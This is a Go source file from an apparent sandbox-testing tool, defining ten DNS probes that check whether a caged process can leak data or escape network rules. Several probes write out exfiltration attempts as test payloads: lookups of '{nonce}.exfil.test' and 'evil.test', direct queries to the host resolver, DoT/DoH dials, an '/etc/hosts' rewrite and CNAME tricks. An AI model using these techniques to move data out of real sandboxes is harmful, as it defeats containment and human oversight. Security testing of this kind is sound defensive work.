package escape

import (
	"context"
	"net"
	"os"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/net/dns/dnsmessage"

	"github.com/pccrun/pccrun/profiles"
)

func dnsProbes() []Probe {
	asked := func(out *Outside, o Outcome) Outcome {
		time.Sleep(20 * time.Millisecond)
		for _, hit := range out.Hits("dns ") {
			if strings.Contains(hit, "exfil") || strings.Contains(hit, "evil") || strings.Contains(hit, "tunnel") {
				return Escaped("looked up outside: %s", hit)
			}
		}
		return keepBlocked(o)
	}
	lookup := func(names ...string) func(*Inside) Outcome {
		return func(in *Inside) Outcome {
			ctx, cancel := context.WithTimeout(in.ctx, patience(3*time.Second))
			defer cancel()
			return each(names, func(name string) Outcome {
				r := net.Resolver{PreferGo: true}
				addresses, err := r.LookupHost(ctx, strings.ReplaceAll(name, "{nonce}", in.Nonce))
				return Attempt(err, "look up %s: %v", name, addresses)
			})
		}
	}
	ask := func(network, server, name string) Outcome {
		question := dnsmessage.Question{Name: dnsmessage.MustNewName(name), Type: dnsmessage.TypeA, Class: dnsmessage.ClassINET}
		query, err := (&dnsmessage.Message{Header: dnsmessage.Header{ID: 7, RecursionDesired: true}, Questions: []dnsmessage.Question{question}}).Pack()
		must(err)
		c, err := net.DialTimeout(network, server, patience(time.Second))
		if err != nil {
			return Blocked("%s %s: %v", network, server, cause(err))
		}
		defer c.Close()
		c.SetDeadline(time.Now().Add(patience(time.Second)))
		if network == "tcp" {
			query = block16(query)
		}
		c.Write(query)
		buf := make([]byte, 512)
		n, err := c.Read(buf)
		return Blocked("%s %s answered %d bytes: %v", network, server, n, err)
	}
	return []Probe{
		{ID: "DNS-001", Name: "a look-up carries data out", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
			Expect: "no query leaves", References: refs("microsandbox issue 675"), Key: "network.allow",
			Explain: "The name itself is the message: a resolver that forwards it has delivered it.",
			Payload: lookup("{nonce}.exfil.test", "evil.test"), Observe: asked},
		{ID: "DNS-002", Name: "the same with names allowed", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "only allowed names are looked up", Key: "network.allow",
			Explain: "A resolver that is there for the allowed names must not forward others.",
			Payload: lookup("{nonce}.exfil.test", "evil.test", "secret.evil.test", "exfil.allowed.test"), Observe: asked},
		{ID: "DNS-003", Name: "ask the host's resolver directly", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
			Expect: "the name is not looked up outside; an answer may be the sandbox's own", Key: "network.allow",
			Explain: "By UDP and TCP, at the address that resolv.conf names.",
			Payload: func(in *Inside) Outcome {
				return Any(ask("udp", in.Resolver+":53", "exfil.test."), ask("tcp", in.Resolver+":53", "exfil.test."), ask("udp", "127.0.0.53:53", "exfil.test."))
			},
			Observe: asked},
		{ID: "DNS-004", Name: "DNS over TLS and HTTPS", Guarantee: profiles.NetDNS, Severity: Medium, Setting: Caged,
			Expect: "ECONNREFUSED or 403", Key: "network.allow", Explain: "Resolvers that speak encrypted are hosts like any other.",
			Payload: func(in *Inside) Outcome {
				return Any(in.Dial("tcp4", "1.1.1.1:853"), in.Dial("tcp4", "1.1.1.1:443"))
			},
			Observe: hitDecides("tcp 1.1.1.1")},
		{ID: "DNS-005", Name: "sockets of the host's resolvers", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
			Expect: "absent", Errnos: errnos("ENOENT ECONNREFUSED EACCES EPERM"), References: refs("nscd(8)"), Key: "network.sockets",
			Explain: "nscd, systemd-resolved and avahi look names up for whoever asks.",
			Payload: func(in *Inside) Outcome {
				return each(resolverSockets, func(path string) Outcome { return in.Dial("unix", path) })
			},
			Drive: func(d *Drive) Outcome { return d.besideListeners("resolver socket", resolverSockets...) }},
		record("DNS-006", "the resolver of macOS", profiles.NetDNS, High, NeedMacOS, "mDNSResponder answers by its own socket."),
		{ID: "DNS-007", Name: "data in names below an allowed pattern", Guarantee: profiles.NetDNS, Severity: Info, Setting: Caged | Proxy, Flags: allowTest,
			Needs: []Need{"a rule about the length of names"}, Expect: "documented: whoever owns *.allowed.test receives names", Key: "network.allow",
			Explain: "A pattern is trust in whoever answers for the names below it."},
		{ID: "DNS-008", Name: "an alias of a private address", Guarantee: profiles.NetAddress, Severity: High, Setting: Caged | Proxy,
			Flags: []string{"--allow", "alias.test"}, Expect: "403", Key: "network.allow",
			Explain: "alias.test is an allowed name; its CNAME leads to 10.9.8.7.",
			Payload: func(in *Inside) Outcome {
				return Any(in.viaProxy("CONNECT", "alias.test:80"), in.viaProxy("CONNECT", "alias.test:443"), in.Dial("tcp", "alias.test:80"))
			},
			Observe: hitDecides("tcp 10.9")},
		{ID: "DNS-009", Name: "hosts file and resolver of the payload's own", Guarantee: profiles.NetDNS, Severity: Medium, Setting: Caged | Proxy, Flags: allowTest,
			Expect: "no effect on what is allowed", Key: "network.allow",
			Explain: "Inside, allowed.test is said to be evil.test's address; the proxy must use the host's view.",
			Payload: func(in *Inside) Outcome {
				os.WriteFile("/etc/hosts", []byte(in.Peers["evil.test"]+" allowed.test\n"), 0o644)
				return in.plainGet(in.Peers["evil.test"], "allowed.test")
			},
			Observe: hitDecides("tcp 20.0.0.66")},
		{ID: "DNS-010", Name: "a tool that looks names up", Guarantee: profiles.NetDNS, Severity: High, Setting: Caged,
			Expect: "no query leaves", Key: "network.allow", Explain: "getent uses the C library's resolver, with all its modules.",
			Payload: func(in *Inside) Outcome {
				getent, ok := in.Tool("getent")
				if !ok {
					return Needing("getent")
				}
				out, err := exec.CommandContext(in.ctx, getent, "hosts", in.Nonce+".exfil.test").CombinedOutput()
				return Blocked("getent: %v %.40q", err, out)
			},
			Observe: asked},
	}
}
